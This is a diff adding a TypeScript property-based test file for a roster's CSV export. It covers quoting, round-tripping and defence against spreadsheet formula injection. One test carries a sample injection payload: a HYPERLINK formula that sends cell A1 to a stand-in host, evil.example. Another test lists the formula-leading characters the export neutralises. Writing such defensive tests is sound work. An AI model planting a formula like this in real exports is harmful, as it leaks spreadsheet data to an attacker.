@@ -1,0 +1,113 @@
+import fc from 'fast-check'
+import { describe, expect, it } from 'vitest'
+import { rosterCsv } from '../../server/domain/csv.ts'
+import type { RosterRow } from '../../shared/schemas/session.ts'
+import { readCsv } from './read-csv.ts'
+
+const HEADER = ['email', 'name', 'vote', 'questions']
+const FORMULA_SIGNS = [...'=+-@\t\r＝＋－＠']
+const SPACES = [' ', '   ', '\u00a0', '\u3000', '\n', ' \t ', '\r\n', '\ufeff']
+
+/** Text with much of what CSV and spreadsheets trip over. */
+const texts = fc.string({
+  unit: fc.oneof(
+    fc.constantFrom(...'",\'\r\n\t =+-@＝＋－＠|;aé'),
+    fc.string({ unit: 'grapheme', minLength: 1, maxLength: 1 }),
+  ),
+  maxLength: 12,
+})
+const rosters = fc.array(fc.record({ email: texts, name: texts, vote: texts, questions: texts }), {
+  maxLength: 5,
+})
+
+const rowWith = (name: string): RosterRow => ({ email: '', name, vote: '', questions: '' })
+/** The name in the one row of a roster as it is read back from CSV. */
+const nameReadBack = (name: string) => readCsv(rosterCsv([rowWith(name)], false))[1]?.[1]
+
+describe('the CSV export of a roster', () => {
+  it('begins with a header row, and has one row per participant', () => {
+    const roster = [{ email: 'zoe@example.org', name: 'Zoe', vote: 'Day?: Monday', questions: '' }]
+    expect(rosterCsv(roster, false)).toBe(
+      'email,name,vote,questions\r\nzoe@example.org,Zoe,Day?: Monday,\r\n',
+    )
+    expect(rosterCsv([], false)).toBe('email,name,vote,questions\r\n')
+  })
+
+  it('is read back as it was, but for the apostrophe before a formula', () => {
+    fc.assert(
+      fc.property(rosters, (roster) => {
+        const [header, ...records] = readCsv(rosterCsv(roster, false))
+        expect(header).toEqual(HEADER)
+        expect(records).toHaveLength(roster.length)
+        for (const [place, { email, name, vote, questions }] of roster.entries()) {
+          const cells = [email, name, vote, questions]
+          const read = records[place] ?? []
+          expect(read).toHaveLength(4)
+          for (const [column, cell] of cells.entries()) {
+            expect([cell, `'${cell}`]).toContain(read[column])
+          }
+        }
+      }),
+      { numRuns: 500 },
+    )
+  })
+
+  it.each([
+    'a\nb',
+    'a\rb',
+    'a\r\nb',
+    'a"b',
+    '"',
+    'a,b',
+    '"a","b"',
+    'Zoë 🎉',
+    ' padded ',
+    "'quoted'",
+  ])('keeps %j as it is', (name) => {
+    expect(nameReadBack(name)).toBe(name)
+  })
+
+  it.each(FORMULA_SIGNS)('makes text of a cell that begins with %j', (sign) => {
+    expect(nameReadBack(`${sign}1+1`)).toBe(`'${sign}1+1`)
+    expect(nameReadBack(sign)).toBe(`'${sign}`)
+  })
+
+  it.each(FORMULA_SIGNS)('makes text of a cell that begins with spaces and %j', (sign) => {
+    for (const space of SPACES) {
+      expect(nameReadBack(`${space}${sign}1`)).toBe(`'${space}${sign}1`)
+    }
+  })
+
+  it('makes text of a formula in every column', () => {
+    const bomb = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    const row = { email: bomb, name: bomb, vote: bomb, questions: bomb }
+    const [, cells] = readCsv(rosterCsv([row], false))
+    expect(cells).toEqual(Array.from({ length: 4 }, () => `'${bomb}`))
+  })
+
+  it('never lets a cell begin like a formula', () => {
+    fc.assert(
+      fc.property(rosters, (roster) => {
+        for (const cell of readCsv(rosterCsv(roster, false)).flat()) {
+          expect(cell.trimStart()).not.toMatch(/^[=+\-@＝＋－＠]/u)
+          expect(cell).not.toMatch(/^[\t\r]/)
+        }
+      }),
+    )
+  })
+
+  it('leaves alone what has such a sign further on', () => {
+    for (const name of ['a=b', '1-2', 'zoe@example.org', "'=1", '(+1)', '“=1”']) {
+      expect(nameReadBack(name)).toBe(name)
+    }
+  })
+
+  it('for Excel differs by the byte-order mark at its beginning alone', () => {
+    fc.assert(
+      fc.property(rosters, (roster) => {
+        expect(rosterCsv(roster, true)).toBe(`\uFEFF${rosterCsv(roster, false)}`)
+        expect(rosterCsv(roster, false).startsWith('email')).toBe(true)
+      }),
+    )
+  })
+})
